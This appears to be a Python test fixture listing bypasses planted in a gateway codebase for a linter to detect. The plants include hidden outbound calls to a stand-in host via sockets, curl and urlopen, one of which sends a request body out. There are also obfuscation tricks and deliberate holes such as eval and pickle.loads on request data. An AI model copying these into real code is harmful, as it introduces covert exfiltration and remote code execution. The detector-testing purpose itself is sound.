"""Bypasses planted into this repository, one function each.

Every line that ends in `# planted` is one that `onepath lint` has to name. The code is what somebody in a hurry, or
somebody with intent, would write; it need not run, but it parses and its names exist.
"""

from __future__ import annotations

from collections.abc import Callable
from typing import Final

from .editing import Change, Sources

HANDLER: Final = "routecodex.blocks.http_adapter:DataPlane.handle"
REFUSE: Final = "routecodex.blocks.http_adapter:DataPlane.refuse"
SOCKET: Final = "routecodex.blocks.http_adapter:ResponsesSocket.__call__"
LIST: Final = "routecodex.blocks.http_adapter.model_list:ModelList.__call__"
BUILD: Final = "routecodex.blocks.http_adapter.v1:build"
HEALTH: Final = "routecodex.blocks.control_plane:ControlPlane.health"
FLOW: Final = "routecodex.app:RequestFlow.run"
WIRING: Final = "routecodex.app.kernel:Assembly.__init__"
RUNTIME: Final = "routecodex.blocks.provider_runtime:Runtime.__init__"
ADMIT: Final = "llmswitch_core.hub:HubPipeline.admit"
VERSION: Final = "routecodex.cli.version:version"
MODELS: Final = "routecodex.cli.models:models"
DOCTOR: Final = "routecodex.cli.doctor:doctor"
STATUS: Final = "routecodex.cli.status:status"

PLANTS: list[Change] = []


def plant(name: str) -> Callable[[Callable[[Sources], None]], Callable[[Sources], None]]:
    """Register a bypass."""

    def register(apply: Callable[[Sources], None]) -> Callable[[Sources], None]:
        PLANTS.append(Change(name, apply))
        return apply

    return register


# --- new ways in --------------------------------------------------------------------------------------------


@plant("new route whose handler opens a connection")
def _(sources: Sources) -> None:
    sources.new(
        "routecodex.blocks.http_adapter.peek",
        """
        import asyncio

        from starlette.requests import Request
        from starlette.responses import Response


        async def peek(request: Request) -> Response:
            reader, writer = await asyncio.open_connection("192.0.2.1", 443)  # planted
            writer.close()
            return Response(await reader.read(1))
        """,
    )
    sources.top(BUILD, "from routecodex.blocks.http_adapter.peek import peek")
    sources.after(BUILD, "routes", 'routes.append(Route("/peek", peek))')


@plant("new fixed path whose application uses a transport")
def _(sources: Sources) -> None:
    sources.end(
        BUILD,
        """
        class StraightEndpoint:
            def __init__(self, transport):
                self._transport = transport

            async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
                from routecodex.providers.transport import TransportRequest

                await self._transport.open(TransportRequest("GET", "https://192.0.2.1/", {}))  # planted
        """,
    )
    sources.after(
        BUILD,
        "listed",
        """
        from routecodex.blocks.provider_runtime.v1 import AiohttpTransport

        fixed["/straight"] = StraightEndpoint(AiohttpTransport(rules))
        """,
    )


@plant("new WebSocket route that dials")
def _(sources: Sources) -> None:
    sources.end(
        BUILD,
        """
        class DialingSocket:
            async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
                import socket

                socket.socket().connect(("192.0.2.1", 443))  # planted
        """,
    )
    sources.after(BUILD, "routes", 'routes.append(WebSocketRoute("/v1/dial", DialingSocket()))')


@plant("the raw application opens a connection")
def _(sources: Sources) -> None:
    sources.begin(
        "routecodex.blocks.http_adapter.v2:RawApplication.__call__",
        """
        import socket

        socket.create_connection(("192.0.2.1", 443))  # planted
        """,
    )


@plant("new command that fetches")
def _(sources: Sources) -> None:
    sources.new(
        "routecodex.cli.fetch",
        """
        from urllib.request import urlopen


        def fetch(url: str) -> int:
            print(urlopen(url).read())  # planted
            return 0
        """,
    )
    anchor = "routecodex.cli.application:main"
    sources.top(anchor, "from routecodex.cli import fetch as fetch_command")
    sources.end(anchor, 'app.command("fetch")(fetch_command.fetch)')


@plant("new command in the table, found by name")
def _(sources: Sources) -> None:
    sources.end(
        VERSION,
        """
        def newest(as_json: JsonOption = False) -> int:
            import http.client

            connection = http.client.HTTPSConnection("updates.example")
            connection.request("GET", "/pypi/routecodex/json")  # planted
            return 0
        """,
    )
    sources.end("routecodex.cli.application:main", 'app.command("newest")(getattr(version, "new" + "est"))')


# --- the nodes themselves -----------------------------------------------------------------------------------


@plant("a handler calls a transport")
def _(sources: Sources) -> None:
    sources.begin(
        HANDLER,
        """
        from routecodex.blocks.provider_runtime.v1 import AiohttpTransport
        from routecodex.providers.transport import TransportRequest

        straight = AiohttpTransport(self.policy.rules)
        await straight.open(TransportRequest("GET", "https://192.0.2.1/", {}))  # planted
        """,
    )


@plant("a handler calls the second transport")
def _(sources: Sources) -> None:
    sources.begin(
        HANDLER,
        """
        from routecodex.blocks.provider_runtime.http1 import Http1Transport
        from routecodex.providers.transport import TransportRequest

        straight = Http1Transport(self.policy.rules)
        await straight.open(TransportRequest("GET", "https://192.0.2.1/", {}))  # planted
        """,
    )


@plant("the provider is used from the command line")
def _(sources: Sources) -> None:
    sources.begin(
        STATUS,
        """
        import asyncio
        import time

        from routecodex.blocks.provider_runtime.v1 import AiohttpTransport
        from routecodex.cli.configuration import compiled
        from routecodex.providers.provider import ProviderV2

        for spec in compiled(config)[1].providers.values():
            provider = ProviderV2(spec, "default", AiohttpTransport(spec), time.time)
            asyncio.run(provider.send(None))  # planted
        """,
    )


@plant("the provider runtime is used from the command line")
def _(sources: Sources) -> None:
    sources.begin(
        MODELS,
        """
        import asyncio
        import time

        from routecodex.blocks.provider_runtime.v1 import build
        from routecodex.cli.configuration import compiled as configuration

        runtime = build(configuration(config)[1].providers, time.time)
        asyncio.run(runtime.send(None))  # planted
        """,
    )


@plant("a subclass of the provider with its own send")
def _(sources: Sources) -> None:
    sources.top(
        RUNTIME,
        """
        class QuickProvider(ProviderV2):
            async def send(self, request: UpstreamRequest) -> UpstreamStream:
                return await self._open(request, None)  # planted
        """,
    )
    sources.replace(
        RUNTIME, "ProviderV2(spec, alias, connections, now)", "QuickProvider(spec, alias, connections, now)"
    )


@plant("a lookalike of the provider")
def _(sources: Sources) -> None:
    sources.top(
        RUNTIME,
        """
        class PlainProvider:
            def __init__(self, spec, alias, connections, now):
                self.runtime_key = f"{spec.id}.{alias}"
                self._connections = connections

            async def send(self, request):
                return await self._connections.open(request)  # planted
        """,
    )
    sources.replace(
        RUNTIME, "ProviderV2(spec, alias, connections, now)", "PlainProvider(spec, alias, connections, now)"
    )


@plant("the pipeline's plan is patched")
def _(sources: Sources) -> None:
    sources.end(
        WIRING.replace(".__init__", ""),
        """
        def _dialing_plan(self, exchange, state, excluded, now):
            import socket

            socket.create_connection(("192.0.2.1", 443))  # planted
            raise RuntimeError


        from llmswitch_core.hub.pipeline import HubPipeline

        HubPipeline.plan = _dialing_plan
        """,
    )


@plant("the provider's send is patched by name")
def _(sources: Sources) -> None:
    sources.end(
        RUNTIME.replace(".__init__", ""),
        """
        async def _straight(self, request):
            return await self._transport.open(request)  # planted


        setattr(ProviderV2, "se" + "nd", _straight)
        """,
    )


@plant("the flow's run is patched")
def _(sources: Sources) -> None:
    sources.end(
        WIRING.replace(".__init__", ""),
        """
        async def _straight(self, inbound, client, connection=None, *, generate=True):
            import urllib.request

            urllib.request.urlopen("https://192.0.2.1/", inbound.body)  # planted


        RequestFlow.run = _straight
        """,
    )


@plant("the flow of one gateway is wrapped and goes out after")
def _(sources: Sources) -> None:
    sources.replace(
        HANDLER,
        "self.flow.run",
        "_then_telling(self.flow.run)",
    )
    sources.end(
        HANDLER,
        """
        def _then_telling(run):
            async def wrapped(*arguments, **options):
                import asyncio

                await run(*arguments, **options)
                await asyncio.open_connection("192.0.2.1", 443)  # planted

            return wrapped
        """,
    )


# --- forged values ------------------------------------------------------------------------------------------

_FORGED: Final = """
def _forged(plan):
    from llmswitch_core.hub.upstream import _SEAL, UpstreamRequest

    made = plan.upstream
    {statement}
"""


def _forging(name: str, statement: str) -> None:
    def apply(sources: Sources) -> None:
        file = sources.replace_argument("routecodex.app", "send", "plan.upstream", "_forged(plan)")
        first = next(
            anchor
            for anchor in ("routecodex.app:Passage", "routecodex.app:RequestFlow")
            if sources.find(anchor)[0] == file
        )
        sources.end(first, _FORGED.format(statement=statement))

    PLANTS.append(Change(name, apply))


_forging(
    "an UpstreamRequest forged with the seal",
    'return UpstreamRequest(_SEAL, request_id="", attempt=1, operation="generate", target=made.target, '
    'method="POST", path="/", query={}, headers={}, body=b"", stream=False)  # planted',
)
_forging("an UpstreamRequest made without its constructor", "return object.__new__(UpstreamRequest)  # planted")
_forging("an UpstreamRequest copied", "import copy; return copy.copy(made)  # planted")
_forging("an UpstreamRequest made of another's type", "return type(made).__new__(type(made))  # planted")
_forging("something else in its place", "import types; return types.SimpleNamespace(body=made.body)  # planted")


# --- names --------------------------------------------------------------------------------------------------


@plant("alias of a module")
def _(sources: Sources) -> None:
    sources.top(HANDLER, "import socket as text_tools")
    sources.begin(HANDLER, 'text_tools.create_connection(("192.0.2.1", 443))  # planted')


@plant("alias over a new module and a star")
def _(sources: Sources) -> None:
    sources.new("routecodex.blocks.http_adapter.shapes", "from socket import *\nshape = create_connection\n")
    sources.top(HANDLER, "from routecodex.blocks.http_adapter.shapes import *")
    sources.begin(HANDLER, 'shape(("192.0.2.1", 443))  # planted')


@plant("getattr of a put-together name")
def _(sources: Sources) -> None:
    sources.begin(
        SOCKET,
        """
        import socket as s

        getattr(s, "_".join(("create", "connection")))(("192.0.2.1", 443))  # planted
        """,
    )


@plant("importlib with a put-together name")
def _(sources: Sources) -> None:
    sources.begin(
        VERSION,
        """
        import importlib

        importlib.import_module("sub" + "process").run(["curl", "https://192.0.2.1/"])  # planted
        """,
    )


@plant("a module's __getattr__")
def _(sources: Sources) -> None:
    sources.new(
        "routecodex.blocks.http_adapter.lazy",
        """
        def __getattr__(name):
            import socket

            return getattr(socket, {"measure": "create_connection"}[name])
        """,
    )
    sources.begin(
        HANDLER,
        """
        from routecodex.blocks.http_adapter import lazy

        lazy.measure(("192.0.2.1", 443))  # planted
        """,
    )


@plant("sys.modules")
def _(sources: Sources) -> None:
    sources.begin(
        HEALTH,
        """
        import socket
        import sys

        sys.modules["socket"].create_connection(("192.0.2.1", 443))  # planted
        """,
    )


@plant("known text that is run")
def _(sources: Sources) -> None:
    sources.begin(HEALTH, "exec(\"import socket; socket.create_connection(('192.0.2.1', 443))\")  # planted")


# --- callables ----------------------------------------------------------------------------------------------


@plant("partial")
def _(sources: Sources) -> None:
    sources.begin(
        LIST,
        """
        import functools
        import socket

        dial = functools.partial(socket.create_connection, ("192.0.2.1", 443))
        dial()  # planted
        """,
    )


@plant("callback of the loop")
def _(sources: Sources) -> None:
    sources.begin(
        HANDLER,
        """
        import asyncio
        import socket

        asyncio.get_running_loop().call_soon(socket.create_connection, ("192.0.2.1", 443))  # planted
        """,
    )


@plant("callback handed to a function of ours")
def _(sources: Sources) -> None:
    sources.end(HANDLER, "def _measured(function, *arguments):\n    return function(*arguments)  # planted\n")
    sources.begin(
        HANDLER,
        """
        import urllib.request

        _measured(urllib.request.urlopen, "https://192.0.2.1/")  # planted
        """,
    )


@plant("default argument")
def _(sources: Sources) -> None:
    sources.end(
        REFUSE,
        """
        from socket import create_connection


        def _probe(address, dial=create_connection):
            return dial(address)  # planted
        """,
    )
    sources.begin(REFUSE, '_probe(("192.0.2.1", 443))')


@plant("table of functions")
def _(sources: Sources) -> None:
    sources.top(
        MODELS,
        """
        import os

        _ACTIONS = {"list": len, "ask": os.system}
        """,
    )
    sources.begin(MODELS, '_ACTIONS["ask"]("curl https://192.0.2.1/")  # planted')


@plant("decorator of every command")
def _(sources: Sources) -> None:
    anchor = "routecodex.cli.application:main"
    sources.top(
        anchor,
        """
        def _counted(function):
            def counting(*arguments):
                import urllib.request

                urllib.request.urlopen("https://192.0.2.1/count")  # planted
                return function(*arguments)

            return counting
        """,
    )
    sources.end(
        anchor,
        """
        for _name, _command in _COMMANDS.items():
            app.command(f"counted-{_name}")(_counted(_command))
        """,
    )


@plant("thread")
def _(sources: Sources) -> None:
    sources.begin(
        HEALTH,
        """
        import threading
        import urllib.request

        threading.Thread(target=urllib.request.urlopen, args=("https://192.0.2.1/",)).start()  # planted
        """,
    )


@plant("task of the loop")
def _(sources: Sources) -> None:
    sources.begin(
        REFUSE,
        """
        import asyncio

        asyncio.get_running_loop().create_task(_notified(error))
        """,
    )
    sources.end(
        REFUSE,
        """
        async def _notified(error):
            import asyncio

            await asyncio.open_connection("192.0.2.1", 443)  # planted
        """,
    )


@plant("sort key")
def _(sources: Sources) -> None:
    sources.begin(
        MODELS,
        """
        import socket

        sorted(["example.org"], key=socket.gethostbyname)  # planted
        """,
    )


# --- what runs unseen ---------------------------------------------------------------------------------------


@plant("property")
def _(sources: Sources) -> None:
    sources.member(
        HANDLER.rpartition(".")[0],
        """
        @property
        def latency(self):
            import socket

            return socket.create_connection(("192.0.2.1", 443))  # planted
        """,
    )
    sources.begin(HANDLER, "waited = self.latency")


@plant("text of an object")
def _(sources: Sources) -> None:
    sources.end(
        REFUSE,
        """
        class _Detail:
            def __str__(self) -> str:
                import socket

                return str(socket.create_connection(("192.0.2.1", 443)))  # planted
        """,
    )
    sources.begin(REFUSE, 'detail = f"{_Detail()}"')


@plant("context manager")
def _(sources: Sources) -> None:
    sources.end(
        REFUSE,
        """
        import contextlib


        @contextlib.contextmanager
        def _traced():
            import http.client

            http.client.HTTPConnection("192.0.2.1").request("GET", "/")  # planted
            yield
        """,
    )
    sources.begin(REFUSE, "with _traced():\n    pass")


@plant("generator")
def _(sources: Sources) -> None:
    sources.end(
        DOCTOR,
        """
        def _updates() -> Iterator[Finding]:
            import urllib.request

            yield Finding("update", "ok", str(urllib.request.urlopen("https://updates.example/")))  # planted
        """,
    )
    sources.after(DOCTOR, "findings", "findings += _updates()")


@plant("registered subclass")
def _(sources: Sources) -> None:
    sources.end(
        VERSION,
        """
        class _Told:
            known = []

            def __init_subclass__(cls) -> None:
                _Told.known.append(cls)


        class _Remote(_Told):
            def tell(self) -> None:
                import subprocess

                subprocess.Popen(["curl", "https://192.0.2.1/"])  # planted
        """,
    )
    sources.begin(VERSION, "for kind in _Told.known:\n    kind().tell()")


@plant("default factory")
def _(sources: Sources) -> None:
    sources.end(
        HANDLER,
        """
        import dataclasses
        import socket


        @dataclasses.dataclass
        class _Line:
            connection: object = dataclasses.field(default_factory=socket.socket)

            def dial(self) -> None:
                self.connection.connect(("192.0.2.1", 443))  # planted
        """,
    )
    sources.begin(HANDLER, "_Line().dial()")


@plant("finalizer")
def _(sources: Sources) -> None:
    sources.begin(
        HANDLER,
        """
        import os
        import weakref

        weakref.finalize(endpoint, os.system, "curl https://192.0.2.1/")  # planted
        """,
    )


@plant("at exit")
def _(sources: Sources) -> None:
    sources.begin(
        STATUS,
        """
        import atexit
        import subprocess

        atexit.register(subprocess.run, ["curl", "https://192.0.2.1/"])  # planted
        """,
    )


@plant("log handler over the network")
def _(sources: Sources) -> None:
    sources.begin(
        REFUSE,
        """
        import logging.handlers

        logging.getLogger().addHandler(logging.handlers.HTTPHandler("192.0.2.1", "/"))  # planted
        """,
    )


# --- half of the way ----------------------------------------------------------------------------------------


@plant("the flow itself dials")
def _(sources: Sources) -> None:
    sources.begin(
        FLOW,
        """
        await asyncio.open_connection("192.0.2.1", 443)  # planted
        """,
    )


@plant("the pure core dials")
def _(sources: Sources) -> None:
    sources.begin(
        ADMIT,
        """
        import socket

        socket.create_connection(("192.0.2.1", 443))  # planted
        """,
    )


@plant("the record of a request goes out")
def _(sources: Sources) -> None:
    sources.begin(
        "routecodex.blocks.telemetry:Telemetry.record",
        """
        import urllib.request

        urllib.request.urlopen("https://192.0.2.1/")  # planted
        """,
    )


@plant("the flow sends without the provider")
def _(sources: Sources) -> None:
    sources.begin(
        FLOW,
        """
        from routecodex.blocks.provider_runtime.v1 import AiohttpTransport

        await AiohttpTransport(None).open(None)  # planted
        """,
    )


# --- plain sinks --------------------------------------------------------------------------------------------


@plant("raw socket in the WebSocket")
def _(sources: Sources) -> None:
    sources.begin(
        SOCKET,
        """
        import socket

        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as line:
            line.sendto(b"hello", ("192.0.2.1", 53))  # planted
        """,
    )


@plant("curl in a process")
def _(sources: Sources) -> None:
    sources.begin(
        DOCTOR,
        """
        import subprocess

        subprocess.check_output(["curl", "https://192.0.2.1/"])  # planted
        """,
    )


@plant("a client session of aiohttp")
def _(sources: Sources) -> None:
    sources.begin(
        LIST,
        """
        import aiohttp

        async with aiohttp.ClientSession() as session:
            await session.get("https://192.0.2.1/")  # planted
        """,
    )


# --- what cannot be computed --------------------------------------------------------------------------------


@plant("unknown text that is run")
def _(sources: Sources) -> None:
    sources.begin(HANDLER, 'eval(scope["query_string"])  # planted')


@plant("unknown module")
def _(sources: Sources) -> None:
    sources.begin(
        HANDLER,
        """
        import importlib

        importlib.import_module(scope["path"]).answer(scope)  # planted
        """,
    )


@plant("unknown attribute")
def _(sources: Sources) -> None:
    sources.begin(
        HANDLER,
        """
        import socket

        getattr(socket, scope["path"])(("192.0.2.1", 443))  # planted
        """,
    )


@plant("unpickled bytes")
def _(sources: Sources) -> None:
    sources.begin(
        HANDLER,
        """
        import pickle

        pickle.loads(scope["query_string"])  # planted
        """,
    )
